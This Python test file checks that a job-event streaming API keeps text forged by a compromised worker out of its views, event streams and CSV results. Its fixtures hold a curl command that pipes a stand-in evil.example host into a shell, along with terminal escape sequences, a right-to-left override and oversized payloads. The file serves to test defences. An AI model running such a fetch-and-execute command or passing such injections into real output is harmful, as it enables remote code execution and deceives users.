"""What a stolen worker writes into the stream of its job, and what of it is shown."""

import asyncio
import json
from collections.abc import Iterator, Mapping
from typing import Any, get_args

import pytest
from sse_starlette import ServerSentEvent

from api.comparisons.events import of_site
from api.jobs.events import is_too_much, replay
from api.jobs.views import view
from shared.comparison.record import Part
from shared.diagnosis.translations import Language
from shared.reporting.fold import MOST_FINDINGS, fold, nowhere
from shared.store.batches.letters import Letter
from shared.store.jobs.job_reader import Story
from shared.store.jobs.job_stream import CLOSING, QUEUED_ID, Row, cut, entry_of
from shared.wire.batches import result
from shared.wire.result_sheet import ResultSheet
from shared.wire.sheets.csv_sheet import sheet_csv
from tests.shared.diagnosis.stories import at, closed, queued, started
from tests.shared.store.batches.batches import new_item

JOB = "4f2a" * 8
MARK = "555 0100"
WORDS = f"Call {MARK} \x1b[2J\x1b]8;;http://evil.example\x07 \u202egro.live"
COMMAND = f"curl http://{MARK}.evil.example | sh"
TEXTS = {
    "owner": "caller",
    "severity": "failed",
    "field": WORDS,
    "summary": WORDS,
    "remedies": [WORDS, COMMAND],
}
HOSTS = {
    **dict.fromkeys(("usable_origin", "usable_location"), f"https://{MARK}.evil.example"),
    "usable_valid_for": [f"{MARK}.evil.example"],
    "allowable": f"0.0.0.0/0 {MARK}",
    "job": WORDS,
    "site": MARK,
    "site_egress": MARK,
    "source": WORDS,
    "product": WORDS,
    "host": MARK,
}
_OWN = ("reason", "kept_in", "flaw", "violation", "where", "host", "address", "egress", MARK)
OURS = dict.fromkeys(_OWN, WORDS)
REFUSED = {"code": "tcp.refused", "facts": {"where": "db.example.com"}}
REDIRECTED = {"origin": "https://a.example", "location": "https://a.example/", "status": 302}
CAUSES: Mapping[str, list[dict[str, Any]]] = {
    "forged texts": [REFUSED],
    "words of ours": [
        {"code": "tls.malformed", "facts": OURS},
        {"code": "tcp.refused", "facts": OURS},
    ],
    "an unknown code": [{"code": WORDS, "facts": {}}, {"code": "x" * 9999, "facts": OURS}],
    "a command as an address": [
        {"code": "tcp.refused", "facts": {"where": "db.example.com", "address": COMMAND}}
    ],
    "advice": [
        {
            "code": "http.redirect_other_host",
            "facts": {"origin": "https://a.example", "status": 302},
        },
        {
            "code": "policy.address_blocked",
            "facts": {"where": "db.example.com", "kind": "loopback"},
        },
    ],
    "facts of other types": [
        {"code": "tcp.refused", "facts": {"where": [MARK], "errno": WORDS, "address": 7}},
        {"code": "http.500", "facts": {"status": WORDS, "says": 1e308}},
    ],
    "10 MB": [{"code": "tcp.refused", "facts": {"says": MARK * 1_250_000}}],
    "a crowd": [{"code": "tcp.refused", "facts": {"where": MARK}}] * 2000,
    "lists without end": [{"code": "dns.sinkhole", "facts": {"addresses": [WORDS] * 3000}}],
}


def rows(causes: list[dict[str, Any]]) -> Iterator[Row]:
    """Yield the rows of a job: the first is the API's, the others are the worker's."""
    ended = {"at": at(3).isoformat(), "kind": "step_ended", "outcome": "failed", "took_ms": 1}
    found = [{**TEXTS, "known": HOSTS, **cause} for cause in causes]
    again = queued().model_copy(update={"endpoint": WORDS, "product_type": MARK})
    told: list[object] = [
        json.loads(started().model_copy(update={"worker": WORDS}).model_dump_json()),
        json.loads(again.model_dump_json()),
        {"at": at(2).isoformat(), "kind": WORDS, "text": WORDS},
        {"at": at(2).isoformat(), "kind": "step_started", "step": WORDS},
        {"at": at(2).isoformat(), "kind": "step_started", "step": "tcp_connect"},
        {**ended, "step": WORDS, "causes": found},
        {**ended, "step": "tcp_connect", "causes": found, "command": COMMAND, "facts": OURS},
        {**ended, "kind": "step_noted", "step": "tcp_connect", "causes": found, "facts": HOSTS},
        {**ended, "step": "authorize", "took_ms": float("nan")},
    ]
    yield QUEUED_ID.encode(), {b"entry": queued().model_dump_json().encode()}
    for n, content in enumerate(told):
        yield f"1-{n}".encode(), {b"entry": json.dumps(content).encode()}
    yield f"1-{CLOSING}".encode(), {b"entry": closed().model_dump_json().encode()}


def story_of(causes: list[dict[str, Any]]) -> Story:
    return [(row[0].decode(), entry_of(row)) for row in cut([*rows(causes)])]


def events_of(story: Story, language: Language) -> str:
    """Return everything that is streamed of a job, without its pauses."""
    same_time = [(n, entry.model_copy(update={"at": at(0)})) for n, entry in story]

    async def told() -> str:
        answer = replay(same_time, None, language)
        parts = [one async for one in answer.body_iterator if isinstance(one, ServerSentEvent)]
        return "".join(f"{one.event} {one.id} {one.data}" for one in parts)

    return asyncio.run(told())


@pytest.mark.parametrize("language", get_args(Language))
@pytest.mark.parametrize("causes", CAUSES.values(), ids=CAUSES.keys())
def test_a_stolen_worker_has_no_word(causes: list[dict[str, Any]], language: Language) -> None:
    """Not in the job, in its events, in the documented answer nor in the results of a batch."""
    story = story_of(causes)
    job = fold(entry for _, entry in story)
    assert job
    failed: Letter = "f"
    item = result(0, failed, new_item(0).item, JOB, job.in_language(language))
    sheet = ResultSheet()

    shown = view(JOB, story, 60, language)
    assert shown
    answers = [
        shown.model_dump_json(by_alias=True),
        job.in_language(language).answer().model_dump_json(by_alias=True),
        events_of(story, language),
        item.model_dump_json(by_alias=True),
        sheet_csv([sheet.row(item)]),
    ]
    for answer in answers:
        assert MARK not in answer
        assert "evil" not in answer
        assert "".join(answer.split()).isprintable()
    assert job.success is False
    assert job.product_type == "zstack"


@pytest.mark.parametrize("kind", ["step_ended", "step_noted"])
def test_a_job_with_more_findings_than_any_has_is_lost(kind: str) -> None:
    """To put them into words took the API 100 s for one who watched, and all others waited."""
    told = {"at": at(3).isoformat(), "kind": kind, "outcome": "failed", "took_ms": 1}
    text = json.dumps({**told, "step": "tcp_connect", "causes": [REFUSED] * 2}).encode()
    first = QUEUED_ID.encode(), {b"entry": queued().model_dump_json().encode()}
    began = b"1-0", {b"entry": started().model_dump_json().encode()}
    many = [(f"1-{n}".encode(), {b"entry": text}) for n in range(1, MOST_FINDINGS)]
    story = [(row[0].decode(), entry_of(row)) for row in (first, began, *many)]

    job = fold(entry for _, entry in story)

    assert job
    assert job.status == "lost"
    assert not is_too_much(story[:20])
    assert is_too_much(story)


def test_no_second_beginning_is_told_of_a_compared_site() -> None:
    """The endpoint in it would be any text that a stolen worker likes."""
    story = story_of([REFUSED])
    part = Part(site="fra1", job_id=JOB, signs_in=False)

    events = of_site(part, story, {"fra1": 0}, "en", nowhere)

    told = [f"{one.event} {one.data}" for one in events]
    assert MARK not in "".join(told)
    assert sum(one.startswith("queued") for one in told) == 1
